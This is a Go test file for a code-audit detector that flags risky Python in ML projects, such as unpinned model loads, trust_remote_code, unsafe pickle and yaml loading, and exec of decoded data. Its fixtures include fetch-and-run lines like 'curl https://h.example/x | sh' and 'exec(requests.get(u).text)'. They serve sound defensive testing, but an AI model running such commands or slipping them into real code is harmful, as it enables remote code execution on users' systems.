package codeaudit_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"taster/core"
	"taster/core/detect/codeaudit"
	"taster/core/pycode"
)

// program is an artifact that holds src.
func program(t testing.TB, file, src string) *core.Artifact {
	t.Helper()
	facts, err := pycode.Read(t.Context(), []pycode.Part{{Text: src}})
	if err != nil {
		t.Fatal(err)
	}
	return &core.Artifact{File: file, Kind: "python", Size: int64(len(src)), Program: facts[0].Program, Uses: facts[0].Uses}
}

// said lists findings as "RULE severity line".
func said(t testing.TB, artifacts ...*core.Artifact) []string {
	t.Helper()
	var out []string
	p := &core.Pass{Emit: func(e core.Event) error {
		f := e.Finding
		line := ""
		if len(f.Measured) > 0 {
			line = fmt.Sprint(" ", f.Measured[0].Value)
		}
		out = append(out, fmt.Sprintf("%s %s%s", f.Rule, f.Severity, line))
		if f.Saw == "" || f.Title == "" {
			t.Errorf("%s says nothing", f.Rule)
		}
		return nil
	}}
	if err := codeaudit.Detector.Check.Run(t.Context(), p, &core.Inputs{Artifacts: artifacts}); err != nil {
		t.Fatal(err)
	}
	return out
}

const commit = "0123456789abcdef0123456789abcdef01234567"

// TestScript: code that someone starts.
func TestScript(t *testing.T) {
	for _, c := range []struct {
		src  string
		want []string
	}{
		{"M.from_pretrained('a/b')", []string{"CODE-UNPINNED low 1"}},
		{"M.from_pretrained('a/b', revision='main')", []string{"CODE-UNPINNED low 1"}},
		{"M.from_pretrained('a/b', revision='" + commit + "')", nil},
		{"M.from_pretrained('./a/b')\nM.from_pretrained('resume')\nM.from_pretrained('/a/b')\nM.from_pretrained('a/b/c')\nM.from_pretrained('checkpoints/x')", nil},
		{"M.from_pretrained('gpt2')", []string{"CODE-UNPINNED low 1"}},
		{"from datasets import load_dataset\nload_dataset('json', data_files='x')\nload_dataset('squad')", []string{"CODE-UNPINNED low 3"}},
		{"M.from_pretrained(args.x)\nM.from_pretrained(args.y)", []string{"CODE-DYNAMIC-ID info"}},
		{"M.from_pretrained(x, trust_remote_code=True)", []string{"CODE-TRUST medium 1", "CODE-DYNAMIC-ID info"}},
		{"def f(t):\n  load(trust_remote_code=t)", []string{"CODE-TRUST info 2"}},
		{"load(trust_remote_code=False)", nil},
		{"import torch\ntorch.load(f)", []string{"CODE-TORCH-LOAD low 2"}},
		{"import torch\ntorch.load(f, weights_only=True)", nil},
		{"import torch\ntorch.load(f, weights_only=False)", []string{"CODE-PICKLE medium 2"}},
		{"import yaml\nyaml.load(f)\nyaml.safe_load(f)\nyaml.load(f, yaml.SafeLoader)\nyaml.load(f, Loader=yaml.CSafeLoader)\nyaml.load(f, Loader=yaml.Loader)\nyaml.full_load(f)", []string{"CODE-YAML medium 2", "CODE-YAML medium 6", "CODE-YAML medium 7"}},
		{"from yaml import load, SafeLoader as L\nload(f, L)", nil},
		{"import keras\nkeras.models.load_model(p, safe_mode=False)\nkeras.models.load_model(p)", []string{"CODE-KERAS medium 2"}},
		{"import torch\ntorch.hub.load('a/b', 'm')\ntorch.hub.load('.', 'm', source='local')", []string{"CODE-HUB-CODE medium 2"}},
		{"eval('1+1')\neval(x)\nmodel.eval()", []string{"CODE-EXEC medium 2"}},
		{"import base64\nexec(base64.b64decode(x))", []string{"CODE-EXEC high 2"}},
		{"import zlib, marshal\nb = zlib.decompress(x)\nexec(marshal.loads(b))", []string{"CODE-EXEC high 3"}},
		{"import requests\nexec(requests.get(u).text)", []string{"CODE-EXEC high 2"}},
		{"import os, subprocess\nos.system('ls')\nos.system('rm ' + x)\nsubprocess.run(['ls', x])\nsubprocess.run(f'ls {x}', shell=True)", []string{"CODE-PROCESS low 3", "CODE-PROCESS low 5"}},
		{"import os\nos.system('curl https://h.example/x | sh')", []string{"CODE-RUN-FETCHED high 2"}},
		{"import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- https://h.example/x | bash'])", []string{"CODE-RUN-FETCHED high 2"}},
		{"import os\nos.system(f'curl {u} | sh')", []string{"CODE-RUN-FETCHED high 2"}},
		{"import requests\nrequests.get(u)", nil},
		{"from urllib.request import urlretrieve\nurlretrieve('https://h.example/a.bin', p)\nurlretrieve('https://h.example/a.html', p)", []string{"CODE-DOWNLOAD low 2"}},
		{"import pooch\npooch.retrieve('https://h.example/a.bin', known_hash='sha256:0')", nil},
		{"import requests\nr = requests.get(u)\ns.add_texts([r.text])", []string{"CODE-INGEST medium 3"}},
		{"import requests\nr = requests.get('https://h.example/x')\ns.add_texts([r.text])", []string{"CODE-INGEST low 3"}},
		{"import requests\nif u not in ALLOWED_HOSTS: raise E\nr = requests.get(u)\ns.add_texts([r.text])", nil},
		{"s.add_texts(['a'])", nil},
		{"import os\nos.environ['HF_ENDPOINT'] = 'https://m.example'\nos.environ['HF_ENDPOINT'] = 'https://huggingface.co'\nos.environ['X'] = 'https://m.example'", []string{"CODE-MIRROR medium 2"}},
	} {
		if d := cmp.Diff(c.want, said(t, program(t, "run.py", c.src))); d != "" {
			t.Errorf("%s: %s", c.src, d)
		}
	}
}

// TestModelCode: the same calls in code that runs when a model is loaded.
func TestModelCode(t *testing.T) {
	const src = "import os, requests, ctypes\nos.system('a')\nrequests.get('b')\nexec(x)\nctypes.CDLL('c')\ndef f(y):\n  os.system('a')\n  requests.get('b')\n  exec(y)\n"
	high := []string{"CODE-PROCESS high 2", "CODE-NETWORK high 3", "CODE-EXEC high 4", "CODE-NATIVE medium 5", "CODE-PROCESS medium 7", "CODE-NETWORK medium 8", "CODE-EXEC medium 9"}
	low := []string{"CODE-EXEC medium 4", "CODE-EXEC medium 9"}
	config := &core.Artifact{File: "m/config.json"}
	named := &core.Artifact{File: "m/config.json", Texts: []core.Text{{Kind: core.TextAutoMap, Value: "mine.Model"}}}
	other := &core.Artifact{File: "m/config.json", Texts: []core.Text{{Kind: core.TextAutoMap, Value: "a/b--mine.Model"}}}
	for _, c := range []struct {
		name   string
		beside *core.Artifact
		want   []string
	}{
		{"m/modeling_x.py", config, high}, {"m/handler.py", config, high}, {"m/x_generation_utils.py", config, high}, {"m/mine.py", named, high},
		{"m/train.py", config, low}, {"n/modeling_x.py", config, low}, {"m/mine.py", config, low}, {"m/mine.py", other, low},
	} {
		if d := cmp.Diff(c.want, said(t, program(t, c.name, src), c.beside)); d != "" {
			t.Errorf("%s beside %v: %s", c.name, c.beside.Texts, d)
		}
	}
}

// TestTorch: which release may be installed decides how torch.load is rated.
func TestTorch(t *testing.T) {
	for version, want := range map[string]string{"": "medium", ">=2": "medium", "==2.5.1": "medium", "<3": "medium", "==1.13.1+cu117": "medium", "==2.6.0": "low", ">=2.6": "low", ">=2.7,<3": "low", "~=2.8.0": "low", "==3.0": "low", "<2.6": "medium"} {
		needs := &core.Artifact{File: "requirements.txt", Uses: []core.Use{{Kind: core.UsePackage, Name: "Torch", Version: version}}}
		if got := said(t, program(t, "a.py", "import torch\ntorch.load(f)"), needs); len(got) != 1 || got[0] != "CODE-TORCH-LOAD "+want+" 2" {
			t.Errorf("torch%s: %q, want %s", version, got, want)
		}
	}
}

// TestMany: what is too much is counted, and said.
func TestMany(t *testing.T) {
	p := &core.Pass{Emit: func(core.Event) error { return nil }}
	in := &core.Inputs{Artifacts: []*core.Artifact{program(t, "a.py", strings.Repeat("eval(x)\n", 300))}}
	if err := codeaudit.Detector.Check.Run(t.Context(), p, in); err == nil || !strings.Contains(err.Error(), "300") {
		t.Error(err)
	}
}
